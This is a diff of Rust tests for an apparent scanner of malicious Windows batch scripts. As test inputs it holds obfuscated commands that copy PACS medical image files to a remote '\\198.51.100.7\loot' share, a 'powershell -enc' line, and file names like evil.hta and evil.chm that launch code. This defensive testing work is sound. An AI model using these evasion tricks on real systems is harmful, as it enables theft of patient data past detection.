+    #[test]
+    fn variable_tricks_are_expanded_as_cmd_expands_them() {
+        assert_alerts(
+            &[
+                "setlocal enabledelayedexpansion\r\nset s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm !s!",
+                "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s:~0%",
+                "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s:~0,20%",
+                "set s=\\\\198.51.100.7\\xoot\r\ncopy C:\\PACS\\*.dcm %s:x=l%",
+                "set s=\\\\198.51.100.7\\loot\r\nset t=%s%\r\ncopy C:\\PACS\\*.dcm %t%",
+                "set c=copy\r\nset s=\\\\198.51.100.7\\loot\r\n%c% C:\\PACS\\*.dcm %s%",
+            ],
+            &[false, true],
+        );
+        // The substring keeps no share: copy is given a local folder.
+        assert_clean(&["set s=C:\\backup\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s:~0,9%"]);
+        assert_eq!(edited(b"abcdef", b"~-2"), Some(b"ef".to_vec()));
+        assert_eq!(edited(b"abcdef", b"~1,-1"), Some(b"bcde".to_vec()));
+        assert_eq!(edited(b"abcAbc", b"a=x"), Some(b"xbcxbc".to_vec()));
+        assert_eq!(edited(b"abcdef", b"*c=Z"), Some(b"Zdef".to_vec()));
+    }
+
+    /// Review of session 41 (issue 10, item 1): a program named by a variable had its
+    /// arguments left unexpanded, so `%c%` and 16 unset variables said no bound; an
+    /// argument read from input is said not inspected.
+    #[test]
+    fn arguments_of_a_program_in_a_variable_are_expanded_and_what_is_unknown_is_said() {
+        let past = format!(
+            "set c=copy\r\n%c% \"C:\\PACS\\{}\" %s%",
+            "%a%".repeat(MAX_EXPANDED_ARGUMENTS)
+        );
+        let from_input = "set /p s=where\r\ncopy C:\\PACS\\*.dcm %s%";
+        for (line, named) in [
+            (past.as_str(), "MAX_EXPANDED_ARGUMENTS"),
+            (from_input, "set /p"),
+        ] {
+            for binary in [false, true] {
+                let found = found(line.as_bytes(), binary).expect("a warning");
+                assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
+                assert!(found.detail.contains(named), "{}", found.detail);
+            }
+        }
+    }
+
+    /// Review of session 41 (issue 10, item 2): the expansion had no per-file budget
+    /// (80,000 `copy a %s%…` lines, 25.4 s). Its work stops at `MAX_EXPANDED_BYTES`
+    /// whatever the file's size, said as a `not-inspected` warning naming it, and an
+    /// alert after it is still found.
+    #[test]
+    fn the_expansion_has_a_per_file_budget_said_when_reached() {
+        let file = |lines: usize| {
+            let mut text = format!("set s={}\r\n", "v".repeat(200));
+            text.push_str(&"copy a %s%%s%%s%%s%\r\n".repeat(lines));
+            text
+        };
+        let mut work = Vec::new();
+        for lines in [4_000, 8_000] {
+            tests::EXPANDED.with(|n| n.set(0));
+            let found = find_batch_command(file(lines).as_bytes()).expect("a warning");
+            assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
+            assert!(
+                found.detail.contains("MAX_EXPANDED_BYTES"),
+                "{}",
+                found.detail
+            );
+            work.push(tests::EXPANDED.with(std::cell::Cell::get));
+        }
+        // Twice the lines, no more work: the budget, not the file, bounds it.
+        assert!(work.iter().all(|&n| n <= MAX_EXPANDED_BYTES), "{work:?}");
+        assert_eq!(work[0], work[1]);
+        let with_alert = format!("{}powershell -enc SQBFAFgA\r\n", file(8_000));
+        let found = find_batch_command(with_alert.as_bytes()).expect("an alert");
+        assert_eq!(found.severity, Severity::Alert, "{}", found.detail);
+    }
+
+    /// Review of session 41 (issue 10, item 4): a file named alone on a batch line runs
+    /// by its association when Windows opens it into code without a prompt (`.chm`:
+    /// HTML Help's scripts, `.url`: the shell follows it, `.jar`: javaw); `.reg` (regedit
+    /// asks) and `.ps1` (Notepad) stay clean.
+    #[test]
+    fn files_windows_opens_into_code_alone_on_a_line_run() {
+        assert_alerts(
+            &["evil.chm", "evil.url", "evil.jar", "evil.hta", "evil.lnk"],
+            &[false],
+        );
+        assert_clean(&["evil.reg", "evil.ps1"]);
     }
 
     /// Review rv41-screen (F1): report lines that `start` or `at` read as handing a plain
